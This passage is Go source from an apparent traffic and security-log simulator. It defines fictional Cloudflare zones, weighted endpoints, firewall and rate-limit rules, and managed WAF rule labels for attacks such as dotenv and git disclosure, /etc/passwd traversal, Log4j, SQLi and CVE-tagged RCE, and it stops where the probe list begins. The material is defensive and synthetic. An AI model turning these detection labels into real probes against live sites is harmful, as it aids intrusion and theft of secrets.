package sim

import (
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"strings"
)

// Zone is one simulated Cloudflare zone.
type Zone struct {
	Name string // the apex domain, ZoneName
	ID   string // 32 hex digits, stable for the name
}

type siteKind uint8

const (
	siteShop siteKind = iota // storefront + static host + API for the app
	siteSaaS                 // marketing site, web app, API behind a Worker
	siteNews                 // edge-cached news site with an image host
	siteBlog                 // WordPress
	siteDocs                 // docs and status page; managed rules in log mode
)

// host roles: which host of a zone an endpoint lives on.
type hostRole uint8

const (
	hMain   hostRole = iota // the site itself (www or apex)
	hStatic                 // static assets / images host
	hAPI                    // API host
	hApp                    // web app host (SaaS)
	hAlt                    // second site on the zone (SaaS marketing, docs status)
	numHostRoles
)

type zone struct {
	Zone
	kind       siteKind
	weight     int
	hosts      [numHostRoles]string
	originHost [numHostRoles]string // EdgeRequestHost when it differs from the client's host
	origins    []string             // origin IPs
	storageIPs []string             // origin IPs for the static host (object storage)
	worker     string               // Worker on the API host
	logOnly    bool                 // managed rules only log
	pages      []*endpoint
	assets     []*endpoint
	apis       []*endpoint
	xhr        []*endpoint // the API calls a web page makes (the API endpoints among assets)
	login      *endpoint   // the endpoint brute force and credential stuffing go for
	formLogin  *endpoint   // the sign-in form post of the site
	rules      zoneRules
	assetHash  [3]string
}

type zoneRules struct {
	skipMonitors  *rule
	botLogin      *rule // managed challenge for likely bots on login/checkout
	logAttack     *rule // log requests with a low WAF attack score
	torAPI        *rule // block Tor on the API host
	aiBlock       *rule // block AI crawlers
	xmlrpc        *rule // block xmlrpc.php
	wpAdmin       *rule // challenge /wp-admin outside the owners' countries
	loginRL       *rule // rate limit login attempts
	hostingSearch *rule // legacy firewall rule: interactive challenge for search from hosting networks
	all           []*rule
}

// Zones returns the built-in zones.
func Zones() []Zone {
	zs := make([]Zone, len(allZones))
	for i, z := range allZones {
		zs[i] = z.Zone
	}
	return zs
}

// stableHex returns n hex digits derived from s: IDs that stay the same
// across runs and seeds (zone IDs, rule IDs).
func stableHex(s string, n int) string {
	var b []byte
	for salt := 0; len(b) < n; salt++ {
		h := fnv.New64a()
		fmt.Fprintf(h, "%d|%s", salt, s)
		b = appendHex(b, h.Sum64(), 8)
	}
	return string(b[:n])
}

// Endpoints.

type epClass uint8

const (
	epPage epClass = iota
	epAsset
	epAPI
	epFeed
	epLogin   // a login form post
	epAdmin   // an admin area
	epRobots  // robots.txt and sitemaps
	epHealth  // what monitors poll
	epMissing // a URL that does not exist (stale links, icons)
)

type cachePolicy uint8

const (
	cacheDynamic  cachePolicy = iota // not eligible: "dynamic"
	cacheStatic                      // static asset: mostly hits
	cacheEdgeHTML                    // HTML cached at the edge
	cacheBypass                      // cache rule bypasses (logged-in pages)
)

type endpoint struct {
	host     hostRole
	method   string
	tmpl     []tmplPart
	raw      string
	ctype    string
	class    epClass
	weight   int
	cache    cachePolicy
	size     int // typical uncompressed body size
	compress bool
	label    string // WebAssetsLabelsManaged
	opID     string // WebAssetsOperationID for saved API operations
}

type tmplPart struct {
	lit string
	ph  string // placeholder name, "" for a literal
}

func parseTemplate(s string) []tmplPart {
	var parts []tmplPart
	for s != "" {
		i := strings.IndexByte(s, '{')
		if i < 0 {
			parts = append(parts, tmplPart{lit: s})
			break
		}
		if i > 0 {
			parts = append(parts, tmplPart{lit: s[:i]})
		}
		j := strings.IndexByte(s[i:], '}')
		if j < 0 {
			panic("sim: bad template " + s)
		}
		parts = append(parts, tmplPart{ph: s[i+1 : i+j]})
		s = s[i+j+1:]
	}
	return parts
}

// ep builds an endpoint: "GET static /assets/app.{ahash}.js".
func ep(spec, ctype string, class epClass, weight int, cache cachePolicy, size int) *endpoint {
	f := strings.Fields(spec)
	roles := map[string]hostRole{"main": hMain, "static": hStatic, "api": hAPI, "app": hApp, "alt": hAlt}
	e := &endpoint{method: f[0], host: roles[f[1]], raw: f[2], tmpl: parseTemplate(f[2]), ctype: ctype, class: class, weight: weight, cache: cache, size: size}
	e.compress = strings.HasPrefix(ctype, "text/") || strings.Contains(ctype, "json") || strings.Contains(ctype, "javascript") || strings.Contains(ctype, "xml") || strings.Contains(ctype, "svg")
	return e
}

const (
	ctHTML = "text/html"
	ctJSON = "application/json"
	ctJS   = "application/javascript"
	ctCSS  = "text/css"
	ctWebP = "image/webp"
	ctJPEG = "image/jpeg"
	ctPNG  = "image/png"
	ctSVG  = "image/svg+xml"
	ctFont = "font/woff2"
	ctXML  = "application/xml"
	ctRSS  = "application/rss+xml"
	ctText = "text/plain"
	ctIcon = "image/x-icon"
)

var allZones = []*zone{
	{
		Zone: Zone{Name: "northwind-traders.com"}, kind: siteShop, weight: 34,
		hosts:      [numHostRoles]string{hMain: "www.northwind-traders.com", hStatic: "static.northwind-traders.com", hAPI: "api.northwind-traders.com"},
		originHost: [numHostRoles]string{hStatic: "northwind-static.s3.amazonaws.com"},
		origins:    []string{"34.226.17.92", "52.70.143.8"}, storageIPs: []string{"52.216.8.131", "52.217.96.40"},
		pages: []*endpoint{
			ep("GET main /", ctHTML, epPage, 15, cacheDynamic, 96000),
			ep("GET main /products/{slug}", ctHTML, epPage, 35, cacheDynamic, 128000),
			ep("GET main /collections/{cat}", ctHTML, epPage, 15, cacheDynamic, 110000),
			ep("GET main /collections/{cat}?page={n}", ctHTML, epPage, 3, cacheDynamic, 110000),
			ep("GET main /search?q={term}", ctHTML, epPage, 8, cacheDynamic, 90000),
			ep("GET main /cart", ctHTML, epPage, 7, cacheBypass, 60000),
			ep("GET main /checkout", ctHTML, epPage, 3, cacheBypass, 70000),
			ep("POST main /checkout", ctHTML, epPage, 1, cacheBypass, 20000),
			ep("GET main /account/login", ctHTML, epPage, 4, cacheDynamic, 40000),
			ep("POST main /account/login", ctHTML, epLogin, 2, cacheBypass, 3000),
			ep("GET main /account/orders", ctHTML, epPage, 2, cacheBypass, 50000),
			ep("GET main /pages/{info}", ctHTML, epPage, 3, cacheDynamic, 45000),
			ep("GET main /blogs/journal/{post}", ctHTML, epPage, 3, cacheDynamic, 80000),
		},
		assets: []*endpoint{
			ep("GET static /assets/theme.{ahash}.css", ctCSS, epAsset, 10, cacheStatic, 180000),
			ep("GET static /assets/app.{ahash}.js", ctJS, epAsset, 10, cacheStatic, 420000),
			ep("GET static /assets/vendor.{ahash}.js", ctJS, epAsset, 8, cacheStatic, 610000),
			ep("GET static /images/products/{id}_{w}x.webp", ctWebP, epAsset, 40, cacheStatic, 60000),
			ep("GET static /fonts/inter-var.woff2", ctFont, epAsset, 5, cacheStatic, 98000),
			ep("GET main /favicon.ico", ctIcon, epAsset, 3, cacheStatic, 15000),
			ep("GET main /apple-touch-icon.png", ctHTML, epMissing, 1, cacheStatic, 9000),
			ep("GET api /v2/recommendations?product={id}", ctJSON, epAPI, 4, cacheDynamic, 6000),
		},
		apis: []*endpoint{
			ep("GET api /v2/products?page={n}&limit=24", ctJSON, epAPI, 20, cacheDynamic, 42000),
			ep("GET api /v2/products/{id}", ctJSON, epAPI, 20, cacheDynamic, 9000),
			ep("GET api /v2/cart", ctJSON, epAPI, 10, cacheDynamic, 3000),
			ep("POST api /v2/cart/items", ctJSON, epAPI, 6, cacheDynamic, 3000),
			ep("PUT api /v2/cart/items/{id}", ctJSON, epAPI, 2, cacheDynamic, 3000),
			ep("DELETE api /v2/cart/items/{id}", ctJSON, epAPI, 1, cacheDynamic, 200),
			ep("POST api /v2/auth/login", ctJSON, epLogin, 3, cacheDynamic, 900),
			ep("POST api /v2/auth/refresh", ctJSON, epAPI, 5, cacheDynamic, 900),
			ep("GET api /v2/orders", ctJSON, epAPI, 4, cacheDynamic, 12000),
			ep("GET api /v2/orders/{id}", ctJSON, epAPI, 3, cacheDynamic, 4000),
			ep("GET api /v2/search?q={term}", ctJSON, epAPI, 6, cacheDynamic, 30000),
		},
	},
	{
		Zone: Zone{Name: "fabrikam.io"}, kind: siteSaaS, weight: 18, worker: "api-gateway",
		hosts:   [numHostRoles]string{hMain: "fabrikam.io", hStatic: "app.fabrikam.io", hAPI: "api.fabrikam.io", hApp: "app.fabrikam.io"},
		origins: []string{"35.190.27.113", "34.149.80.21"},
		pages: []*endpoint{
			ep("GET main /", ctHTML, epPage, 10, cacheEdgeHTML, 70000),
			ep("GET main /pricing", ctHTML, epPage, 5, cacheEdgeHTML, 60000),
			ep("GET main /blog/{post}", ctHTML, epPage, 5, cacheEdgeHTML, 80000),
			ep("GET app /login", ctHTML, epPage, 6, cacheDynamic, 30000),
			ep("POST app /login", ctHTML, epLogin, 3, cacheDynamic, 2000),
			ep("GET app /dashboard", ctHTML, epPage, 20, cacheDynamic, 35000),
			ep("GET app /projects", ctHTML, epPage, 12, cacheDynamic, 35000),
			ep("GET app /projects/{id}", ctHTML, epPage, 18, cacheDynamic, 35000),
			ep("GET app /projects/{id}/runs/{id6}", ctHTML, epPage, 10, cacheDynamic, 35000),
			ep("GET app /settings/{setting}", ctHTML, epPage, 4, cacheDynamic, 35000),
		},
		assets: []*endpoint{
			ep("GET static /_next/static/chunks/{ahash}.js", ctJS, epAsset, 30, cacheStatic, 240000),
			ep("GET static /_next/static/css/{ahash}.css", ctCSS, epAsset, 8, cacheStatic, 90000),
			ep("GET static /_next/image?url=%2Fimg%2F{img}.png&w={w}&q=75", ctWebP, epAsset, 10, cacheStatic, 45000),
			ep("GET api /v1/users/me", ctJSON, epAPI, 10, cacheDynamic, 1500),
			ep("GET api /v1/projects/{id}/runs?limit=50", ctJSON, epAPI, 12, cacheDynamic, 30000),
			ep("POST api /v1/events", ctJSON, epAPI, 10, cacheDynamic, 100),
			ep("POST api /graphql", ctJSON, epAPI, 12, cacheDynamic, 8000),
			ep("OPTIONS api /graphql", ctText, epAPI, 3, cacheDynamic, 0),
		},
		apis: []*endpoint{
			ep("GET api /v1/projects", ctJSON, epAPI, 15, cacheDynamic, 20000),
			ep("GET api /v1/projects/{id}", ctJSON, epAPI, 15, cacheDynamic, 4000),
			ep("POST api /v1/projects/{id}/runs", ctJSON, epAPI, 10, cacheDynamic, 1500),
			ep("GET api /v1/runs/{id6}", ctJSON, epAPI, 15, cacheDynamic, 3000),
			ep("GET api /v1/runs/{id6}/logs?cursor={hex8}", ctJSON, epAPI, 10, cacheDynamic, 64000),
			ep("POST api /v1/events", ctJSON, epAPI, 15, cacheDynamic, 100),
			ep("POST api /oauth/token", ctJSON, epLogin, 4, cacheDynamic, 800),
			ep("PATCH api /v1/projects/{id}", ctJSON, epAPI, 3, cacheDynamic, 4000),
			ep("DELETE api /v1/runs/{id6}", ctJSON, epAPI, 1, cacheDynamic, 0),
			ep("GET api /v1/health", ctJSON, epHealth, 2, cacheDynamic, 60),
		},
	},
	{
		Zone: Zone{Name: "wideworld-news.org"}, kind: siteNews, weight: 26,
		hosts:      [numHostRoles]string{hMain: "www.wideworld-news.org", hStatic: "img.wideworld-news.org", hAPI: "www.wideworld-news.org"},
		originHost: [numHostRoles]string{hStatic: "wideworld-images.storage.googleapis.com"},
		origins:    []string{"104.198.14.52"}, storageIPs: []string{"142.250.64.123", "172.217.2.123"},
		pages: []*endpoint{
			ep("GET main /", ctHTML, epPage, 12, cacheEdgeHTML, 210000),
			ep("GET main /{sec}/", ctHTML, epPage, 12, cacheEdgeHTML, 180000),
			ep("GET main /{sec}/{yyyy}/{mm}/{dd}/{headline}", ctHTML, epPage, 55, cacheEdgeHTML, 160000),
			ep("GET main /live/{headline}", ctHTML, epPage, 6, cacheDynamic, 190000),
			ep("GET main /video/{id6}", ctHTML, epPage, 4, cacheEdgeHTML, 120000),
			ep("GET main /search?q={term}", ctHTML, epPage, 2, cacheDynamic, 90000),
			ep("GET main /rss/{sec}.xml", ctRSS, epFeed, 5, cacheEdgeHTML, 40000),
		},
		assets: []*endpoint{
			ep("GET static /{yyyy}/{mm}/{hex8}-{w}.jpg", ctJPEG, epAsset, 50, cacheStatic, 120000),
			ep("GET static /{yyyy}/{mm}/{hex8}-{w}.webp", ctWebP, epAsset, 20, cacheStatic, 80000),
			ep("GET main /static/js/main.{ahash}.js", ctJS, epAsset, 8, cacheStatic, 350000),
			ep("GET main /static/css/main.{ahash}.css", ctCSS, epAsset, 6, cacheStatic, 120000),
			ep("GET main /static/fonts/serif-display.woff2", ctFont, epAsset, 3, cacheStatic, 70000),
			ep("GET main /favicon.ico", ctIcon, epAsset, 2, cacheStatic, 15000),
			ep("GET main /api/most-read?sec={sec}", ctJSON, epAPI, 5, cacheEdgeHTML, 4000),
		},
		apis: []*endpoint{
			ep("GET main /api/most-read?sec={sec}", ctJSON, epAPI, 5, cacheEdgeHTML, 4000),
			ep("GET main /rss/{sec}.xml", ctRSS, epFeed, 5, cacheEdgeHTML, 40000),
		},
	},
	{
		Zone: Zone{Name: "tailspin-travel.com"}, kind: siteBlog, weight: 11,
		hosts:   [numHostRoles]string{hMain: "tailspin-travel.com", hStatic: "tailspin-travel.com", hAPI: "tailspin-travel.com"},
		origins: []string{"159.65.112.45"},
		pages: []*endpoint{
			ep("GET main /", ctHTML, epPage, 12, cacheDynamic, 85000),
			ep("GET main /{yyyy}/{mm}/{post}/", ctHTML, epPage, 55, cacheDynamic, 110000),
			ep("GET main /category/{blogcat}/", ctHTML, epPage, 10, cacheDynamic, 90000),
			ep("GET main /tag/{tag}/", ctHTML, epPage, 4, cacheDynamic, 80000),
			ep("GET main /about/", ctHTML, epPage, 3, cacheDynamic, 50000),
			ep("GET main /?s={term}", ctHTML, epPage, 3, cacheDynamic, 70000),
			ep("GET main /feed/", ctRSS, epFeed, 4, cacheDynamic, 60000),
			ep("GET main /wp-login.php", ctHTML, epAdmin, 1, cacheDynamic, 8000),
			ep("POST main /wp-login.php", ctHTML, epLogin, 1, cacheDynamic, 8000),
			ep("GET main /wp-admin/", ctHTML, epAdmin, 1, cacheDynamic, 70000),
		},
		assets: []*endpoint{
			ep("GET main /wp-content/uploads/{yyyy}/{mm}/{post}-1024x683.jpg", ctJPEG, epAsset, 40, cacheStatic, 140000),
			ep("GET main /wp-content/themes/tailspin/style.css?ver=6.7.1", ctCSS, epAsset, 8, cacheStatic, 60000),
			ep("GET main /wp-includes/js/jquery/jquery.min.js?ver=3.7.1", ctJS, epAsset, 8, cacheStatic, 87000),
			ep("GET main /wp-includes/css/dist/block-library/style.min.css?ver=6.7.1", ctCSS, epAsset, 6, cacheStatic, 110000),
			ep("GET main /wp-content/plugins/contact-form-7/includes/js/index.js?ver=6.0.3", ctJS, epAsset, 4, cacheStatic, 15000),
			ep("POST main /wp-admin/admin-ajax.php", ctJSON, epAPI, 4, cacheDynamic, 400),
			ep("GET main /wp-json/wp/v2/posts?per_page=10&page={n}", ctJSON, epAPI, 2, cacheDynamic, 90000),
		},
		apis: []*endpoint{
			ep("GET main /wp-json/wp/v2/posts?per_page=10&page={n}", ctJSON, epAPI, 6, cacheDynamic, 90000),
			ep("GET main /feed/", ctRSS, epFeed, 4, cacheDynamic, 60000),
		},
	},
	{
		Zone: Zone{Name: "adatum.dev"}, kind: siteDocs, weight: 5, logOnly: true,
		hosts:   [numHostRoles]string{hMain: "docs.adatum.dev", hStatic: "docs.adatum.dev", hAPI: "status.adatum.dev", hAlt: "status.adatum.dev"},
		origins: []string{"185.199.108.153", "185.199.109.153"},
		pages: []*endpoint{
			ep("GET main /", ctHTML, epPage, 10, cacheEdgeHTML, 40000),
			ep("GET main /docs/{docsec}/{docpage}/", ctHTML, epPage, 60, cacheEdgeHTML, 55000),
			ep("GET main /docs/api/{docpage}/", ctHTML, epPage, 15, cacheEdgeHTML, 70000),
			ep("GET main /search?q={term}", ctHTML, epPage, 3, cacheDynamic, 20000),
			ep("GET alt /", ctHTML, epPage, 6, cacheEdgeHTML, 30000),
			ep("GET alt /history", ctHTML, epPage, 2, cacheEdgeHTML, 40000),
		},
		assets: []*endpoint{
			ep("GET main /assets/index-{ahash}.js", ctJS, epAsset, 10, cacheStatic, 160000),
			ep("GET main /assets/index-{ahash}.css", ctCSS, epAsset, 8, cacheStatic, 40000),
			ep("GET main /img/logo.svg", ctSVG, epAsset, 4, cacheStatic, 3000),
			ep("GET main /favicon.ico", ctIcon, epAsset, 2, cacheStatic, 15000),
		},
		apis: []*endpoint{
			ep("GET api /api/v2/status.json", ctJSON, epHealth, 10, cacheDynamic, 1200),
			ep("GET api /api/v2/incidents.json", ctJSON, epAPI, 3, cacheDynamic, 8000),
		},
	},
}

// Paths everyone has.
var (
	epRobotsTxt = ep("GET main /robots.txt", ctText, epRobots, 1, cacheStatic, 400)
	epSitemap   = ep("GET main /sitemap.xml", ctXML, epRobots, 1, cacheStatic, 30000)
	epHomeHead  = ep("HEAD main /", ctHTML, epHealth, 1, cacheDynamic, 0)
	epHomeGet   = ep("GET main /", ctHTML, epHealth, 1, cacheDynamic, 70000)
)

var zoneByName = map[string]*zone{}

func init() {
	for _, z := range allZones {
		z.ID = stableHex("zone:"+z.Name, 32)
		zoneByName[z.Name] = z
		for i := range z.assetHash {
			z.assetHash[i] = stableHex(fmt.Sprintf("asset:%s:%d", z.Name, i), 8)
		}
		for _, e := range z.pages {
			if e.class == epLogin {
				z.login, z.formLogin = e, e
			}
		}
		for _, e := range z.assets {
			if e.class == epAPI {
				z.xhr = append(z.xhr, e)
			}
		}
		if len(z.xhr) == 0 {
			z.xhr = z.apis
		}
		for _, e := range z.apis {
			if e.class == epLogin && z.kind == siteShop {
				z.login = e
			}
			if e.host == hAPI && z.kind != siteDocs {
				e.opID = uuidFromString(z.Name + e.method + e.raw)
			}
		}
		for _, e := range append(append([]*endpoint{}, z.pages...), z.apis...) {
			if e.class == epLogin {
				e.label = "cf-log-in"
			}
			if strings.Contains(e.raw, "checkout") {
				e.label = "cf-check-out"
			}
			if strings.Contains(e.raw, "cart/items") && e.method == "POST" {
				e.label = "cf-add-to-cart"
			}
		}
		z.rules = newZoneRules(z)
	}
}

func uuidFromString(s string) string {
	h := stableHex(s, 32)
	var hi, lo uint64
	fmt.Sscanf(h[:16], "%x", &hi)
	fmt.Sscanf(h[16:], "%x", &lo)
	return string(appendUUID(nil, hi, lo))
}

// pickEndpoint picks by weight.
func pickEndpoint(r *rand.Rand, eps []*endpoint) *endpoint {
	total := 0
	for _, e := range eps {
		total += e.weight
	}
	x := r.IntN(total)
	for _, e := range eps {
		if x < e.weight {
			return e
		}
		x -= e.weight
	}
	return eps[len(eps)-1]
}

func (z *zone) originIP(r *rand.Rand, role hostRole) string {
	if role == hStatic && len(z.storageIPs) > 0 && z.hosts[hStatic] != z.hosts[hMain] {
		return z.storageIPs[r.IntN(len(z.storageIPs))]
	}
	return z.origins[r.IntN(len(z.origins))]
}

// Word lists for the URL placeholders.
var (
	wProducts = []string{"ceramic-pour-over-set", "walnut-serving-board", "linen-apron-sage", "cast-iron-skillet-10in", "stoneware-mug-set-of-4",
		"bamboo-cutting-board", "copper-moscow-mule-mugs", "wool-throw-blanket-oat", "enamel-dutch-oven-5qt", "chef-knife-8in",
		"glass-storage-jars", "olive-wood-spoons", "matcha-whisk-set", "french-press-1l", "hand-thrown-bowl-speckled",
		"beeswax-food-wraps", "cotton-tea-towels", "marble-mortar-pestle", "spice-rack-oak", "cold-brew-bottle"}
	wCats      = []string{"kitchen", "tableware", "coffee-tea", "home-textiles", "gifts", "new-arrivals", "sale", "storage"}
	wTerms     = []string{"mug", "coffee", "knife", "linen", "gift+card", "blanket", "teapot", "cast+iron", "bowl", "board", "pricing", "api+key", "webhooks", "election", "weather", "lisbon", "kyoto"}
	wInfo      = []string{"shipping", "returns", "contact", "about-us", "faq", "sustainability"}
	wPosts     = []string{"a-weekend-in-lisbon", "hidden-gems-of-kyoto", "budget-guide-to-patagonia", "first-time-in-the-dolomites", "eating-our-way-through-oaxaca", "48-hours-in-edinburgh", "winter-road-trip-iceland", "hanoi-street-food-guide", "cape-town-on-foot", "tasmania-slow-travel", "packing-list-for-asia", "night-trains-of-europe"}
	wBlogCats  = []string{"europe", "asia", "south-america", "africa", "food", "gear", "itineraries"}
	wTags      = []string{"hiking", "trains", "street-food", "budget", "photography", "winter", "islands"}
	wSections  = []string{"world", "business", "technology", "science", "sport", "culture", "climate", "opinion"}
	wHeadlines = []string{"markets-rally-as-inflation-cools", "storm-batters-coast-thousands-without-power", "new-telescope-images-reveal-early-galaxies", "talks-resume-after-overnight-breakthrough",
		"city-unveils-plan-for-car-free-centre", "chipmaker-shares-jump-on-ai-demand", "record-heat-grips-southern-europe", "underdogs-reach-final-after-penalty-drama",
		"parliament-passes-landmark-data-law", "scientists-map-deep-ocean-currents", "festival-returns-with-sold-out-lineup", "central-bank-holds-rates-steady"}
	wDocSecs  = []string{"getting-started", "guides", "sdk", "cli", "concepts", "integrations"}
	wDocPages = []string{"installation", "authentication", "quickstart", "configuration", "webhooks", "rate-limits", "errors", "pagination", "projects", "runs", "events", "tokens"}
	wSettings = []string{"billing", "team", "tokens", "integrations", "profile", "security"}
	wImgs     = []string{"hero", "dashboard-dark", "pipeline", "logo-wall", "chart"}
	wWidths   = []string{"320", "640", "768", "1024", "1600"}
)

// fillTemplate appends the endpoint's path (and query) to b.
func (z *zone) fillTemplate(b []byte, r *rand.Rand, e *endpoint) []byte {
	for _, p := range e.tmpl {
		if p.ph == "" {
			b = append(b, p.lit...)
			continue
		}
		switch p.ph {
		case "slug":
			b = append(b, wProducts[r.IntN(len(wProducts))]...)
		case "cat":
			b = append(b, wCats[r.IntN(len(wCats))]...)
		case "term":
			b = append(b, wTerms[r.IntN(len(wTerms))]...)
		case "info":
			b = append(b, wInfo[r.IntN(len(wInfo))]...)
		case "post":
			b = append(b, wPosts[r.IntN(len(wPosts))]...)
		case "blogcat":
			b = append(b, wBlogCats[r.IntN(len(wBlogCats))]...)
		case "tag":
			b = append(b, wTags[r.IntN(len(wTags))]...)
		case "sec":
			b = append(b, wSections[r.IntN(len(wSections))]...)
		case "headline":
			b = append(b, wHeadlines[r.IntN(len(wHeadlines))]...)
		case "docsec":
			b = append(b, wDocSecs[r.IntN(len(wDocSecs))]...)
		case "docpage":
			b = append(b, wDocPages[r.IntN(len(wDocPages))]...)
		case "setting":
			b = append(b, wSettings[r.IntN(len(wSettings))]...)
		case "img":
			b = append(b, wImgs[r.IntN(len(wImgs))]...)
		case "w":
			b = append(b, wWidths[r.IntN(len(wWidths))]...)
		case "id":
			b = appendInt(b, 1000+r.IntN(9000))
		case "id6":
			b = appendInt(b, 100000+r.IntN(900000))
		case "n":
			b = appendInt(b, 2+r.IntN(8))
		case "hex8":
			b = appendHex(b, r.Uint64(), 4)
		case "ahash":
			// Mostly the current build, sometimes a client with an older one.
			i := 0
			if x := r.IntN(20); x == 0 {
				i = 2
			} else if x < 3 {
				i = 1
			}
			b = append(b, z.assetHash[i]...)
		case "yyyy":
			b = appendInt(b, 2023+r.IntN(4))
		case "mm":
			b = append2(b, 1+r.IntN(12))
		case "dd":
			b = append2(b, 1+r.IntN(28))
		default:
			panic("sim: unknown placeholder " + p.ph)
		}
	}
	return b
}

// Security rules.

type action uint8

const (
	actBlock action = iota
	actManagedChallenge
	actChallenge
	actJSChallenge
	actLog
	actSkip
	actMCSolved
	actMCInteractiveSolved
	actAllow
)

// Action names: firewall_events Action (lower case, per datasets.json) and
// http_requests SecurityActions (camel case).
var (
	actionFW  = [...]string{"block", "managedchallenge", "challenge", "jschallenge", "log", "skip", "managedchallengenoninteractivesolved", "managedchallengeinteractivesolved", "allow"}
	actionSec = [...]string{"block", "managedChallenge", "challenge", "jschallenge", "log", "skip", "managedChallengeNonInteractiveSolved", "managedChallengeInteractiveSolved", "allow"}
)

func (a action) terminating() bool {
	return a == actBlock || a == actManagedChallenge || a == actChallenge || a == actJSChallenge
}

type rule struct {
	id     string
	ref    string
	desc   string
	source string // firewall_events Source
	secSrc string // http_requests SecuritySources
	meta   string // firewall_events Metadata (raw JSON object)
	action action
	status int // status when it terminates the request

	// Custom and rate limiting rules, for the audit log.
	expr      string
	phase     string
	rulesetID string
}

const managedRulesetID = "efb7b8c949ac4650a09736fc376e9aee" // Cloudflare Managed Ruleset

func managedRule(ref, desc string) *rule {
	return &rule{
		id: stableHex("managed:"+desc, 32), ref: ref, desc: desc,
		source: "firewallmanaged", secSrc: "firewallManaged", action: actBlock, status: 403,
		meta: `{"ruleset_id":"` + managedRulesetID + `","ruleset_version":"4218","version":"2"}`,
	}
}

// The managed rules the probes and attacks trip.
var (
	mrDotenv     = managedRule("100531", "Dotenv - Information Disclosure")
	mrGit        = managedRule("100008E", "Version Control - Information Disclosure")
	mrWPBackup   = managedRule("WP0026", "WordPress - Configuration Backup Disclosure")
	mrActuator   = managedRule("100592", "Spring Boot - Actuator - Information Disclosure")
	mrPHPUnit    = managedRule("100359", "PHPUnit - Remote Code Execution - CVE:CVE-2017-9841")
	mrThinkPHP   = managedRule("100335", "ThinkPHP - Remote Code Execution")
	mrTPLink     = managedRule("100603", "TP-Link Archer - Command Injection - CVE:CVE-2023-1389")
	mrTraversal  = managedRule("100173", "Directory Traversal - etc/passwd")
	mrXSS        = managedRule("100136B", "XSS - JavaScript Script Tag")
	mrSQLiUnion  = managedRule("100122", "SQLi - UNION in MSSQL")
	mrSQLiBool   = managedRule("100158", "SQLi - Tautology - URI")
	mrLog4jHdr   = managedRule("100514", "Log4j Headers")
	mrLog4jURL   = managedRule("100515B", "Log4j URL")
	ruleSecLevel = &rule{id: "securitylevel", desc: "", source: "securitylevel", secSrc: "securityLevel", meta: `{}`, action: actManagedChallenge, status: 403}
	ruleBIC      = &rule{id: "bic", desc: "", source: "bic", secSrc: "bic", meta: `{}`, action: actBlock, status: 403}
)

func newZoneRules(z *zone) zoneRules {
	customSet := stableHex("custom-ruleset:"+z.Name, 32)
	rlSet := stableHex("ratelimit-ruleset:"+z.Name, 32)
	var zr zoneRules
	custom := func(ref, desc, expr string, a action) *rule {
		ru := &rule{id: stableHex(z.Name+":"+ref, 32), ref: ref, desc: desc, source: "firewallcustom", secSrc: "firewallCustom", action: a, status: 403,
			meta: `{"ruleset_id":"` + customSet + `","ruleset_version":"` + fmt.Sprint(3+len(z.Name)%9) + `","version":"1"}`,
			expr: expr, rulesetID: customSet, phase: "http_request_firewall_custom"}
		zr.all = append(zr.all, ru)
		return ru
	}
	rl := func(ref, desc, expr string) *rule {
		ru := &rule{id: stableHex(z.Name+":"+ref, 32), ref: ref, desc: desc, source: "ratelimit", secSrc: "rateLimit", action: actBlock, status: 429,
			meta: `{"ruleset_id":"` + rlSet + `","ruleset_version":"2","version":"1"}`,
			expr: expr, rulesetID: rlSet, phase: "http_ratelimit"}
		zr.all = append(zr.all, ru)
		return ru
	}
	const (
		monitors = `(cf.verified_bot_category eq "Monitoring & Analytics")`
		attack   = `(cf.waf.score lt 20)`
	)
	switch z.kind {
	case siteShop:
		zr.skipMonitors = custom("skip-uptime-monitors", "Skip WAF for uptime monitoring", monitors, actSkip)
		zr.botLogin = custom("bots-login-checkout", "Managed challenge likely bots on login and checkout",
			`(cf.bot_management.score lt 30 and not cf.bot_management.verified_bot and http.request.uri.path in {"/account/login" "/checkout" "/v2/auth/login"})`, actManagedChallenge)
		zr.logAttack = custom("log-attack-score", "Log requests with WAF attack score below 20", attack, actLog)
		zr.loginRL = rl("login-rate-limit", "Login attempts: 5 per minute per IP",
			`(http.request.method eq "POST" and http.request.uri.path in {"/account/login" "/v2/auth/login"})`)
	case siteSaaS:
		zr.skipMonitors = custom("skip-uptime-monitors", "Skip WAF for uptime monitoring", monitors, actSkip)
		zr.torAPI = custom("block-tor-api", "Block Tor exit nodes on api.fabrikam.io", `(ip.src.country eq "T1" and http.host eq "api.fabrikam.io")`, actBlock)
		zr.botLogin = custom("bots-login", "Managed challenge likely bots on sign-in",
			`(cf.bot_management.score lt 30 and not cf.bot_management.verified_bot and http.request.uri.path in {"/login" "/oauth/token"})`, actManagedChallenge)
		zr.logAttack = custom("log-attack-score", "Log requests with WAF attack score below 20", attack, actLog)
		zr.loginRL = rl("signin-rate-limit", "Sign-in attempts: 10 per minute per IP",
			`(http.request.method eq "POST" and http.request.uri.path in {"/login" "/oauth/token"})`)
	case siteNews:
		zr.aiBlock = custom("block-ai-crawlers", "Block AI crawlers", `(cf.verified_bot_category eq "AI Crawler" or http.user_agent contains "Bytespider")`, actBlock)
		// A rule from the legacy Firewall Rules product, still around.
		filter := stableHex(z.Name+":filter:hosting-search", 32)
		zr.hostingSearch = &rule{id: stableHex(z.Name+":hosting-search", 32), desc: "Challenge search from hosting networks", source: "firewallrules", secSrc: "firewallRules",
			action: actChallenge, status: 403, meta: `{"filter":"` + filter + `","type":"customer"}`,
			expr: `(ip.geoip.asnum in {14061 16276 24940 20473 45090 37963 36352 9009 14618 16509} and http.request.uri.path eq "/search")`, rulesetID: filter, phase: "firewall_rules"}
		zr.all = append(zr.all, zr.hostingSearch)
	case siteBlog:
		zr.xmlrpc = custom("block-xmlrpc", "Block xmlrpc.php", `(http.request.uri.path eq "/xmlrpc.php")`, actBlock)
		zr.wpAdmin = custom("wp-admin-geo", "Challenge wp-admin outside US and GB",
			`(starts_with(http.request.uri.path, "/wp-admin") and http.request.uri.path ne "/wp-admin/admin-ajax.php" and not ip.src.country in {"US" "GB"})`, actManagedChallenge)
		zr.loginRL = rl("wp-login-rate-limit", "wp-login.php: 5 per minute per IP", `(http.request.method eq "POST" and http.request.uri.path eq "/wp-login.php")`)
	case siteDocs:
		zr.logAttack = custom("log-attack-score", "Log requests with WAF attack score below 20", attack, actLog)
	}
	return zr
}

// Probes: what scanners and attackers request.

type attackClass uint8

const (
	acNone attackClass = iota
	acDisclosure
	acRCE
	acSQLi
	acXSS
	acTraversal
	acLog4j
)

type probe struct {
	method string
	path   string // may contain a query
	class  attackClass
	rule   *rule
	status int // origin's answer when nothing blocks it
}

var probes = []probe{
